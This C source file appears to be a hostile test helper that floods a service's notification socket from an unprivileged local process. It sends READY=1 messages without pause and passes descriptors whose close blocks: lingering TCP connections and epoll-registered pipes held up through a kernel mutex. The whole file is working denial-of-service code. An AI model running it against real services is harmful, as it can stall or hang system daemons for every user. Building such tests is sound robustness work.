/*
 * stranger_floods_notify NAME KIND [FILE] - a local user who is no worker sends to the
 * NOTIFY_SOCKET of one without end, from several processes at once:
 *
 * words      READY=1, as fast as it goes
 * lingering  with it TCP connections whose last close sleeps: SO_LINGER, and data that nobody reads
 * held       with it pipes whose last close waits for a mutex of the kernel, and no signal ends
 *            that: they are in an epoll set, and a thread that writes events of that set has the
 *            mutex while FILE, of a file system that does not answer, keeps it waiting
 *
 * NAME is as the worker has it in its environment. Says "attacks" when it is under way.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <sys/epoll.h>
#include <sys/mman.h>
#include <sys/prctl.h>

#include "hostile.h"

#define PROCESSES 4
#define BUNDLE 200 /* connections that are sent together */
#define BUNDLES 20 /* at one listener, whose end would be that of its connections */
#define HELD 200

static struct sockaddr_un name = {.sun_family = AF_UNIX};
static socklen_t name_len;
static int epoll_fd;

static int open_sender(void)
{
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

    if (connect(fd, (const struct sockaddr *)&name, name_len) < 0)
        exit(0); /* the worker has ended */
    return fd;
}

/* Takes fd; what is not sent is not closed slowly, either: this process could not go on. */
static void send_with(int sender_fd, int fd)
{
    static const char words[] = "BARRIER=1\nREADY=1";

    while (fdpass_send(sender_fd, words, sizeof words - 1, fd, 0) < 0)
        if (errno != EPERM && errno != ETOOMANYREFS)
            exit(0);
        else
            usleep(1000);
    close(fd);
}

static void flood_words(void)
{
    for (int fd = open_sender();;)
        if (send(fd, "READY=1", 7, MSG_DONTWAIT) < 0 && errno != EAGAIN)
            exit(0);
}

static void open_listener(struct sockaddr_in *where)
{
    socklen_t len = sizeof *where;
    int small = 4096;
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    *where = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    if (bind(fd, (struct sockaddr *)where, len) < 0 || listen(fd, 4096) < 0 ||
        getsockname(fd, (struct sockaddr *)where, &len) < 0)
        die("listen");
}

static int make_lingering(const struct sockaddr_in *where)
{
    static const char data[65536];
    struct linger linger = {1, 15};
    int small = 4096;
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    if (connect(fd, (const struct sockaddr *)where, sizeof *where) < 0)
        die("connect");
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
    while (send(fd, data, sizeof data, MSG_DONTWAIT) > 0)
        ;
    return fd;
}

/* A socket in whose queue they are: its close closes all. */
static int make_bundle(const struct sockaddr_in *where)
{
    int ends[2];

    if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, ends) < 0)
        die("socketpair");
    for (int i = 0; i < BUNDLE; i++) {
        int fd = make_lingering(where);
        while (fdpass_send(ends[1], "", 1, fd, MSG_DONTWAIT) < 0)
            if (errno == ETOOMANYREFS) /* of one user */
                usleep(1000);
            else
                die("bundle");
        close(fd); /* the last one is in the queue */
    }
    close(ends[1]);
    return ends[0];
}

static void flood_lingering(void)
{
    struct sockaddr_in where;

    int sender_fd = open_sender();

    for (int i = 0;; i++) {
        if (i % BUNDLES == 0)
            open_listener(&where);
        send_with(sender_fd, make_bundle(&where));
    }
}

static void *hold_mutex(void *events)
{
    epoll_wait(epoll_fd, events, 1, -1);
    return NULL;
}

static int open_held(void)
{
    struct epoll_event event = {.events = EPOLLIN};
    int ends[2];

    if (pipe(ends) < 0 || epoll_ctl(epoll_fd, EPOLL_CTL_ADD, ends[0], &event) < 0)
        die("pipe");
    close(ends[1]);
    return ends[0];
}

/* All pipes are made before the mutex is taken. */
static void flood_held(const char *path)
{
    static int held[HELD];
    pthread_t thread;
    int file_fd = open(path, O_RDONLY);
    void *events = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file_fd, 0);

    epoll_fd = epoll_create1(0);
    if (file_fd < 0 || events == MAP_FAILED)
        die(path);
    for (int i = 0; i < HELD; i++)
        held[i] = open_held();
    int sender_fd = open_sender();
    pthread_create(&thread, NULL, hold_mutex, events);
    sleep(1);
    puts("attacks");
    fflush(stdout);
    for (int i = 0; i < HELD; i++)
        send_with(sender_fd, held[i]);
    for (;;)
        pause();
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    if (getuid() == 0 && (setgid(65534) < 0 || setuid(65534) < 0))
        die("setuid");
    name_len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
                           (size_t)snprintf(name.sun_path + 1, sizeof name.sun_path - 1, "%s",
                                            argv[1] + 1));
    if (strcmp(argv[2], "held") == 0)
        flood_held(argv[3]);
    puts("attacks");
    fflush(stdout);
    for (int i = 1; i < PROCESSES && fork() != 0; i++)
        ;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (strcmp(argv[2], "words") == 0)
        flood_words();
    flood_lingering();
}
